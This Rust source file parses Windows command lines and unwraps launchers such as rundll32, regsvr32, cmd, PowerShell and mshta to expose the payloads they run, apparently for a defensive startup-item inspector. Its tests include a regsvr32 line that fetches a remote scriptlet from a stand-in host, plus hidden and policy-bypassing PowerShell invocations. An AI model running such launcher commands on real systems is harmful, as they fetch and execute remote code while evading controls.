@@ -0,0 +1,736 @@
+use std::path::{Path, PathBuf};
+
+use base64::engine::general_purpose::STANDARD;
+use base64::Engine;
+use serde::{Deserialize, Serialize};
+
+/// Split a command line the way `CommandLineToArgvW` does.
+///
+/// The first argument follows the special rules for the program name: it
+/// ends at the next quote if it starts with one, otherwise at whitespace,
+/// and backslashes are never escapes.
+pub fn split_command_line(command: &str) -> Vec<String> {
+    let command = command.trim_start_matches([' ', '\t']);
+    if command.is_empty() {
+        return Vec::new();
+    }
+
+    let (program, rest) = split_program(command);
+    let mut args = vec![program.to_string()];
+    args.extend(split_arguments(rest));
+    args
+}
+
+/// Split off the program name using the rules for the first argument
+fn split_program(command: &str) -> (&str, &str) {
+    if let Some(quoted) = command.strip_prefix('"') {
+        match quoted.find('"') {
+            Some(end) => (&quoted[..end], &quoted[end + 1..]),
+            None => (quoted, ""),
+        }
+    } else {
+        let end = command.find([' ', '\t']).unwrap_or(command.len());
+        (&command[..end], &command[end..])
+    }
+}
+
+/// Split the arguments after the program name, following the backslash and
+/// quote rules of `CommandLineToArgvW`
+pub fn split_arguments(rest: &str) -> Vec<String> {
+    let chars: Vec<char> = rest.chars().collect();
+    let mut args = Vec::new();
+    let mut current = String::new();
+    let mut in_arg = false;
+    // Odd while inside quotes; two quotes in a row inside quotes make a literal one
+    let mut quotes = 0usize;
+    let mut backslashes = 0usize;
+    let mut i = 0;
+
+    while i < chars.len() {
+        let c = chars[i];
+
+        if (c == ' ' || c == '\t') && quotes == 0 {
+            current.extend(std::iter::repeat_n('\\', backslashes));
+            backslashes = 0;
+            if in_arg {
+                args.push(std::mem::take(&mut current));
+                in_arg = false;
+            }
+            i += 1;
+            continue;
+        }
+
+        in_arg = true;
+
+        match c {
+            '\\' => {
+                backslashes += 1;
+                i += 1;
+            }
+            '"' => {
+                // 2n backslashes and a quote: n backslashes, the quote toggles quoting.
+                // 2n+1 backslashes and a quote: n backslashes and a literal quote.
+                current.extend(std::iter::repeat_n('\\', backslashes / 2));
+                if backslashes % 2 == 1 {
+                    current.push('"');
+                } else {
+                    quotes += 1;
+                }
+                backslashes = 0;
+                i += 1;
+
+                while i < chars.len() && chars[i] == '"' {
+                    quotes += 1;
+                    if quotes == 3 {
+                        current.push('"');
+                        quotes = 0;
+                    }
+                    i += 1;
+                }
+                if quotes == 2 {
+                    quotes = 0;
+                }
+            }
+            _ => {
+                current.extend(std::iter::repeat_n('\\', backslashes));
+                backslashes = 0;
+                current.push(c);
+                i += 1;
+            }
+        }
+    }
+
+    current.extend(std::iter::repeat_n('\\', backslashes));
+    if in_arg {
+        args.push(current);
+    }
+
+    args
+}
+
+/// Split a command line into words the way a POSIX shell does, without
+/// expanding anything: `'...'` is literal, `"..."` allows `\` before
+/// `$`, `` ` ``, `"`, `\` and newline, and `\` outside quotes escapes the
+/// next character
+pub fn split_posix(command: &str) -> Vec<String> {
+    let mut words = Vec::new();
+    let mut current = String::new();
+    let mut in_word = false;
+    let mut chars = command.chars();
+
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' => {
+                in_word = true;
+                current.extend(chars.by_ref().take_while(|&c| c != '\''));
+            }
+            '"' => {
+                in_word = true;
+                while let Some(c) = chars.next() {
+                    match c {
+                        '"' => break,
+                        '\\' => match chars.next() {
+                            Some('\n') => {}
+                            Some(next @ ('$' | '`' | '"' | '\\')) => current.push(next),
+                            Some(next) => {
+                                current.push('\\');
+                                current.push(next);
+                            }
+                            None => current.push('\\'),
+                        },
+                        c => current.push(c),
+                    }
+                }
+            }
+            '\\' => match chars.next() {
+                Some('\n') => {}
+                Some(next) => {
+                    in_word = true;
+                    current.push(next);
+                }
+                None => {
+                    in_word = true;
+                    current.push('\\');
+                }
+            },
+            c if c.is_whitespace() => {
+                if in_word {
+                    words.push(std::mem::take(&mut current));
+                    in_word = false;
+                }
+            }
+            c => {
+                in_word = true;
+                current.push(c);
+            }
+        }
+    }
+
+    if in_word {
+        words.push(current);
+    }
+    words
+}
+
+/// Quote an argument so that [`split_arguments`] reads it back unchanged
+pub fn quote_argument(arg: &str) -> String {
+    if !arg.is_empty() && !arg.contains([' ', '\t', '"']) {
+        return arg.to_string();
+    }
+
+    let mut quoted = String::with_capacity(arg.len() + 2);
+    quoted.push('"');
+    let mut backslashes = 0usize;
+    for c in arg.chars() {
+        match c {
+            '\\' => backslashes += 1,
+            '"' => {
+                // Double the backslashes already written in front of the
+                // quote, then escape the quote
+                quoted.extend(std::iter::repeat_n('\\', backslashes + 1));
+                quoted.push('"');
+                backslashes = 0;
+                continue;
+            }
+            _ => backslashes = 0,
+        }
+        quoted.push(c);
+    }
+    // Backslashes before the closing quote must not escape it
+    quoted.extend(std::iter::repeat_n('\\', backslashes));
+    quoted.push('"');
+    quoted
+}
+
+/// Build a command line that [`split_command_line`] splits into `program`
+/// and `args`. The program is only quoted, never escaped, like Windows reads it.
+pub fn join_command_line(program: &str, args: &[String]) -> String {
+    let mut command = if program.contains([' ', '\t']) {
+        format!("\"{program}\"")
+    } else {
+        program.to_string()
+    };
+    for arg in args {
+        command.push(' ');
+        command.push_str(&quote_argument(arg));
+    }
+    command
+}
+
+/// Extensions Windows runs directly from a command line
+const EXECUTABLE_EXTENSIONS: &[&str] = &[".exe", ".com", ".bat", ".cmd"];
+
+/// Byte offsets where an unquoted program path could end
+fn prefix_ends(command: &str) -> impl Iterator<Item = usize> + '_ {
+    command
+        .char_indices()
+        .filter(|(_, c)| *c == ' ' || *c == '\t')
+        .map(|(i, _)| i)
+        .chain(std::iter::once(command.len()))
+}
+
+/// A command line split into the program that runs and its arguments
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct CommandLine {
+    pub program: String,
+    pub args: Vec<String>,
+    /// The command line text after the program, before splitting
+    pub raw_args: String,
+}
+
+impl CommandLine {
+    /// Parse without looking at the file system
+    pub fn parse(command: &str) -> Self {
+        let command = command.trim_start_matches([' ', '\t']);
+        let (program, rest) = split_program(command);
+        Self {
+            program: program.to_string(),
+            args: split_arguments(rest),
+            raw_args: rest.trim().to_string(),
+        }
+    }
+
+    /// Parse, resolving an unquoted program path that contains spaces.
+    ///
+    /// For `C:\Program Files\App\app.exe -min` every prefix ending at a space
+    /// is a candidate (with `.exe` appended when it has no extension), and the
+    /// longest one that exists is the program.
+    pub fn resolve(command: &str, exists: impl Fn(&Path) -> bool) -> Self {
+        let command = command.trim();
+        if command.starts_with('"') || !command.contains([' ', '\t']) {
+            return Self::parse(command);
+        }
+
+        let mut found = None;
+        for end in prefix_ends(command) {
+            let candidate = &command[..end];
+            if Self::candidate_exists(candidate, &exists) {
+                found = Some(end);
+            }
+        }
+
+        // Nothing exists, e.g. the item is from another machine: guess the
+        // first prefix that looks like an executable
+        let found = found.or_else(|| {
+            prefix_ends(command).find(|&end| {
+                let candidate = command[..end].to_lowercase();
+                EXECUTABLE_EXTENSIONS
+                    .iter()
+                    .any(|ext| candidate.ends_with(ext))
+            })
+        });
+
+        match found {
+            Some(end) => {
+                let rest = &command[end..];
+                Self {
+                    program: command[..end].to_string(),
+                    args: split_arguments(rest),
+                    raw_args: rest.trim().to_string(),
+                }
+            }
+            None => Self::parse(command),
+        }
+    }
+
+    fn candidate_exists(candidate: &str, exists: &impl Fn(&Path) -> bool) -> bool {
+        let path = Path::new(candidate);
+        if exists(path) {
+            return true;
+        }
+        path.extension().is_none() && exists(&PathBuf::from(format!("{candidate}.exe")))
+    }
+
+    /// Lowercase file name of the program without `.exe`, e.g. `rundll32`
+    pub fn program_name(&self) -> String {
+        let name = self
+            .program
+            .rsplit(['\\', '/'])
+            .next()
+            .unwrap_or(&self.program)
+            .to_lowercase();
+        match name.strip_suffix(".exe") {
+            Some(stem) => stem.to_string(),
+            None => name,
+        }
+    }
+}
+
+/// What a launcher program actually runs
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum PayloadKind {
+    /// A DLL loaded by `rundll32` or `regsvr32`
+    Dll,
+    /// A script run by `wscript`, `cscript`, `mshta`, `powershell -File` or `cmd`
+    Script,
+    /// A program started through `cmd /c` or `start`
+    Program,
+    /// Inline code, e.g. `powershell -Command` or a decoded `-EncodedCommand`
+    Inline,
+}
+
+/// The real payload behind a known launcher
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct LaunchPayload {
+    /// Launcher programs from the outside in, e.g. `["cmd", "powershell"]`
+    pub launchers: Vec<String>,
+    pub kind: PayloadKind,
+    /// DLL, script or program path as written in the command
+    pub path: Option<PathBuf>,
+    /// `rundll32` entry point
+    pub entry_point: Option<String>,
+    /// Inline code, decoded for `-EncodedCommand`
+    pub command: Option<String>,
+}
+
+impl LaunchPayload {
+    fn new(launcher: &str, kind: PayloadKind) -> Self {
+        Self {
+            launchers: vec![launcher.to_string()],
+            kind,
+            path: None,
+            entry_point: None,
+            command: None,
+        }
+    }
+
+    fn with_path(mut self, path: &str) -> Self {
+        self.path = Some(PathBuf::from(path));
+        self
+    }
+
+    fn with_command(mut self, command: String) -> Self {
+        self.command = Some(command);
+        self
+    }
+
+    /// Short description for the details panel
+    pub fn display(&self) -> String {
+        let target = match (&self.path, &self.command, &self.entry_point) {
+            (Some(path), _, Some(entry)) => format!("{},{entry}", path.display()),
+            (Some(path), _, None) => path.display().to_string(),
+            (None, Some(command), _) => command.clone(),
+            (None, None, _) => String::new(),
+        };
+        format!("{target} (via {})", self.launchers.join(" > "))
+    }
+}
+
+/// Find the payload of a command line that starts a known launcher
+pub fn unwrap_launcher(command: &CommandLine) -> Option<LaunchPayload> {
+    let launcher = command.program_name();
+    match launcher.as_str() {
+        "rundll32" => unwrap_rundll32(&launcher, command),
+        "regsvr32" => unwrap_regsvr32(&launcher, command),
+        "cmd" => unwrap_cmd(&launcher, command),
+        "powershell" | "pwsh" => unwrap_powershell(&launcher, command),
+        "wscript" | "cscript" => command
+            .args
+            .iter()
+            .find(|a| !a.starts_with("//"))
+            .map(|script| LaunchPayload::new(&launcher, PayloadKind::Script).with_path(script)),
+        "mshta" => command.args.first().map(|target| {
+            let inline = ["javascript:", "vbscript:", "http:", "https:"]
+                .iter()
+                .any(|p| target.to_lowercase().starts_with(p));
+            if inline {
+                LaunchPayload::new(&launcher, PayloadKind::Inline)
+                    .with_command(command.raw_args.clone())
+            } else {
+                LaunchPayload::new(&launcher, PayloadKind::Script).with_path(target)
+            }
+        }),
+        _ => None,
+    }
+}
+
+/// `rundll32 path.dll,Entry args`
+fn unwrap_rundll32(launcher: &str, command: &CommandLine) -> Option<LaunchPayload> {
+    let first = command.args.first()?;
+    let (dll, entry) = match first.split_once(',') {
+        Some((dll, entry)) => (dll.trim(), Some(entry.trim())),
+        // `rundll32 "C:\a b\x.dll" ,Entry` puts the entry point in the next argument
+        None => (
+            first.as_str(),
+            command
+                .args
+                .get(1)
+                .and_then(|a| a.strip_prefix(','))
+                .map(str::trim),
+        ),
+    };
+
+    let mut payload = LaunchPayload::new(launcher, PayloadKind::Dll).with_path(dll);
+    payload.entry_point = entry.filter(|e| !e.is_empty()).map(str::to_string);
+    Some(payload)
+}
+
+/// `regsvr32 /s /i:url scrobj.dll`
+fn unwrap_regsvr32(launcher: &str, command: &CommandLine) -> Option<LaunchPayload> {
+    let dll = command.args.iter().find(|a| !a.starts_with(['/', '-']))?;
+    let install_arg = command.args.iter().find_map(|a| {
+        let lower = a.to_lowercase();
+        (lower.starts_with("/i:") || lower.starts_with("-i:")).then(|| a[3..].to_string())
+    });
+
+    let mut payload = LaunchPayload::new(launcher, PayloadKind::Dll).with_path(dll);
+    payload.command = install_arg;
+    Some(payload)
+}
+
+/// `cmd /c ...` and `cmd /c start "title" /min ...`
+fn unwrap_cmd(launcher: &str, command: &CommandLine) -> Option<LaunchPayload> {
+    // Skip switches like /d /q until /c, /k or /r, which take the rest of the line
+    let mut rest = command.raw_args.trim_start();
+    let inner = loop {
+        if !rest.starts_with('/') {
+            return None;
+        }
+        let switch = rest.get(..2).map(str::to_lowercase);
+        if matches!(switch.as_deref(), Some("/c" | "/k" | "/r")) {
+            break rest[2..].trim();
+        }
+        let end = rest.find(char::is_whitespace)?;
+        rest = rest[end..].trim_start();
+    };
+
+    // cmd strips one pair of quotes around the whole command when there are no others
+    let inner = match inner.strip_prefix('"').and_then(|i| i.strip_suffix('"')) {
+        Some(stripped) if !stripped.contains('"') && !stripped.is_empty() => stripped,
+        _ => inner,
+    };
+    let inner = strip_start(inner);
+    if inner.is_empty() {
+        return None;
+    }
+
+    let inner_command = CommandLine::parse(inner);
+    if let Some(mut payload) = unwrap_launcher(&inner_command) {
+        payload.launchers.insert(0, launcher.to_string());
+        return Some(payload);
+    }
+
+    let program = inner_command.program.to_lowercase();
+    let kind = if [".bat", ".cmd", ".vbs", ".js", ".ps1", ".hta"]
+        .iter()
+        .any(|ext| program.ends_with(ext))
+    {
+        PayloadKind::Script
+    } else {
+        PayloadKind::Program
+    };
+
+    Some(LaunchPayload::new(launcher, kind).with_path(&inner_command.program))
+}
+
+/// Remove a leading `start ["title"] [/switches]` so the started program is left
+fn strip_start(command: &str) -> &str {
+    let Some(rest) = command
+        .get(..6)
+        .filter(|s| s.eq_ignore_ascii_case("start "))
+        .map(|_| command[6..].trim_start())
+    else {
+        return command;
+    };
+
+    let mut rest = rest;
+    // The first quoted argument of `start` is the window title
+    if let Some(quoted) = rest.strip_prefix('"') {
+        if let Some(end) = quoted.find('"') {
+            rest = quoted[end + 1..].trim_start();
+        }
+    }
+
+    while rest.starts_with('/') {
+        let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
+        let switch = rest[..end].to_lowercase();
+        rest = rest[end..].trim_start();
+        // `/D path` takes the working directory as the next word
+        if switch == "/d" {
+            let (_, after) = split_program(rest);
+            rest = after.trim_start();
+        }
+    }
+
+    rest
+}
+
+/// PowerShell parameters that take a value, by their shortest accepted prefix
+const POWERSHELL_VALUE_PARAMETERS: &[(&str, &str)] = &[
+    ("ex", "executionpolicy"),
+    ("ep", "ep"),
+    ("w", "windowstyle"),
+    ("v", "version"),
+    ("wd", "workingdirectory"),
+    ("config", "configurationname"),
+    ("o", "outputformat"),
+    ("i", "inputformat"),
+    ("psc", "psconsolefile"),
+    ("settings", "settingsfile"),
+];
+
+fn matches_parameter(name: &str, shortest: &str, full: &str) -> bool {
+    name.starts_with(shortest) && full.starts_with(name)
+}
+
+/// `powershell -EncodedCommand`, `-File`, `-Command` or a positional argument
+fn unwrap_powershell(launcher: &str, command: &CommandLine) -> Option<LaunchPayload> {
+    let mut args = command.args.iter().enumerate();
+
+    while let Some((index, arg)) = args.next() {
+        let Some(name) = arg.strip_prefix(['-', '/']) else {
+            // Windows PowerShell runs positional arguments as a command, pwsh as a file
+            return Some(if launcher == "pwsh" {
+                LaunchPayload::new(launcher, PayloadKind::Script).with_path(arg)
+            } else {
+                LaunchPayload::new(launcher, PayloadKind::Inline)
+                    .with_command(command.args[index..].join(" "))
+            });
+        };
+        let name = name.to_lowercase();
+
+        if name == "e" || name == "ec" || matches_parameter(&name, "en", "encodedcommand") {
+            let encoded = args.next()?.1;
+            let decoded = decode_powershell(encoded)?;
+            return Some(LaunchPayload::new(launcher, PayloadKind::Inline).with_command(decoded));
+        }
+        if matches_parameter(&name, "f", "file") {
+            let script = args.next()?.1;
+            return Some(LaunchPayload::new(launcher, PayloadKind::Script).with_path(script));
+        }
+        if matches_parameter(&name, "c", "command") {
+            let rest = command.args[index + 1..].join(" ");
+            return Some(LaunchPayload::new(launcher, PayloadKind::Inline).with_command(rest));
+        }
+        if POWERSHELL_VALUE_PARAMETERS
+            .iter()
+            .any(|(shortest, full)| matches_parameter(&name, shortest, full))
+        {
+            args.next();
+        }
+    }
+
+    None
+}
+
+/// `-EncodedCommand` takes base64 of the UTF-16LE script text
+pub fn decode_powershell(encoded: &str) -> Option<String> {
+    let bytes = STANDARD.decode(encoded.trim()).ok()?;
+    if bytes.len() % 2 != 0 {
+        return None;
+    }
+    let units: Vec<u16> = bytes
+        .chunks_exact(2)
+        .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
+        .collect();
+    Some(String::from_utf16_lossy(&units))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn splits_posix_words() {
+        assert_eq!(
+            split_posix(r#"'/opt/my app/run' --name "a \"b\" \$HOME" plain\ word"#),
+            vec!["/opt/my app/run", "--name", r#"a "b" $HOME"#, "plain word"]
+        );
+        assert_eq!(split_posix(r#"echo "" '' x"#), vec!["echo", "", "", "x"]);
+        assert_eq!(
+            split_posix(r#"printf "a\nb" C:\\x"#),
+            vec!["printf", r"a\nb", r"C:\x"]
+        );
+        assert!(split_posix("   ").is_empty());
+    }
+
+    #[test]
+    fn splits_arguments_like_command_line_to_argv() {
+        // The examples from the CommandLineToArgvW documentation
+        assert_eq!(split_arguments(r#""abc" d e"#), ["abc", "d", "e"]);
+        assert_eq!(
+            split_arguments(r#"a\\\b d"e f"g h"#),
+            [r"a\\\b", "de fg", "h"]
+        );
+        assert_eq!(split_arguments(r#"a\\\"b c d"#), [r#"a\"b"#, "c", "d"]);
+        assert_eq!(split_arguments(r#"a\\\\"b c" d e"#), [r"a\\b c", "d", "e"]);
+    }
+
+    #[test]
+    fn program_names_never_escape() {
+        assert_eq!(
+            split_command_line(r#""C:\Program Files\App\" -x"#),
+            [r"C:\Program Files\App\", "-x"]
+        );
+        assert_eq!(
+            split_command_line(r"  C:\app.exe a\ b"),
+            [r"C:\app.exe", r"a\", "b"]
+        );
+        assert!(split_command_line("   ").is_empty());
+    }
+
+    #[test]
+    fn quoted_arguments_split_back_unchanged() {
+        let args: Vec<String> = [
+            "",
+            "plain",
+            "a b",
+            "tab\there",
+            r#"say "hi""#,
+            r"trailing\",
+            r#"a\\"b"#,
+            r"C:\Program Files\",
+        ]
+        .iter()
+        .map(|a| a.to_string())
+        .collect();
+
+        let command = join_command_line(r"C:\Program Files\App\app.exe", &args);
+        let split = split_command_line(&command);
+        assert_eq!(split[0], r"C:\Program Files\App\app.exe");
+        assert_eq!(split[1..], args[..]);
+    }
+
+    #[test]
+    fn resolves_unquoted_programs_with_spaces() {
+        let exists = |p: &Path| p == Path::new(r"C:\Program Files\App\app.exe");
+
+        let found = CommandLine::resolve(r"C:\Program Files\App\app.exe -min", exists);
+        assert_eq!(found.program, r"C:\Program Files\App\app.exe");
+        assert_eq!(found.args, ["-min"]);
+
+        let without_extension = CommandLine::resolve(r"C:\Program Files\App\app -min", exists);
+        assert_eq!(without_extension.program, r"C:\Program Files\App\app");
+        assert_eq!(without_extension.raw_args, "-min");
+
+        // Nothing exists: the first prefix that looks like a program
+        let guessed = CommandLine::resolve(r"C:\My Tools\tool.exe --x y", |_| false);
+        assert_eq!(guessed.program, r"C:\My Tools\tool.exe");
+        assert_eq!(guessed.args, ["--x", "y"]);
+        assert_eq!(
+            CommandLine::parse(r"C:\WINDOWS\System32\RUNDLL32.EXE x").program_name(),
+            "rundll32"
+        );
+    }
+
+    fn payload(command: &str) -> Option<LaunchPayload> {
+        unwrap_launcher(&CommandLine::parse(command))
+    }
+
+    #[test]
+    fn unwraps_dll_launchers() {
+        let rundll = payload(r#"rundll32.exe "C:\a b\x.dll",Entry arg"#).unwrap();
+        assert_eq!(rundll.kind, PayloadKind::Dll);
+        assert_eq!(rundll.path, Some(PathBuf::from(r"C:\a b\x.dll")));
+        assert_eq!(rundll.entry_point.as_deref(), Some("Entry"));
+
+        let regsvr = payload(r"regsvr32 /s /i:http://x/y.sct scrobj.dll").unwrap();
+        assert_eq!(regsvr.path, Some(PathBuf::from("scrobj.dll")));
+        assert_eq!(regsvr.command.as_deref(), Some("http://x/y.sct"));
+    }
+
+    #[test]
+    fn unwraps_nested_shells() {
+        let start = payload(r#"cmd /d /c start "" /min "C:\x\run.bat""#).unwrap();
+        assert_eq!(start.launchers, ["cmd"]);
+        assert_eq!(start.kind, PayloadKind::Script);
+        assert_eq!(start.path, Some(PathBuf::from(r"C:\x\run.bat")));
+
+        let nested =
+            payload(r#"cmd.exe /c "powershell -NoProfile -ExecutionPolicy Bypass -File C:\s.ps1""#)
+                .unwrap();
+        assert_eq!(nested.launchers, ["cmd", "powershell"]);
+        assert_eq!(nested.kind, PayloadKind::Script);
+        assert_eq!(nested.path, Some(PathBuf::from(r"C:\s.ps1")));
+    }
+
+    #[test]
+    fn unwraps_script_hosts() {
+        let script = "Write-Host hi";
+        let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        let encoded = payload(&format!(
+            "powershell -w hidden -enc {}",
+            STANDARD.encode(bytes)
+        ));
+        assert_eq!(encoded.unwrap().command.as_deref(), Some(script));
+
+        assert_eq!(
+            payload("pwsh ./setup.ps1").unwrap().path,
+            Some(PathBuf::from("./setup.ps1"))
+        );
+        assert_eq!(
+            payload("powershell Get-Process").unwrap().kind,
+            PayloadKind::Inline
+        );
+        assert_eq!(
+            payload("wscript //B //Nologo run.vbs").unwrap().path,
+            Some(PathBuf::from("run.vbs"))
+        );
+        assert_eq!(
+            payload("mshta javascript:close()").unwrap().kind,
+            PayloadKind::Inline
+        );
+        assert_eq!(payload(r"C:\app.exe -x"), None);
+        assert_eq!(decode_powershell("YQ=="), None);
+    }
+}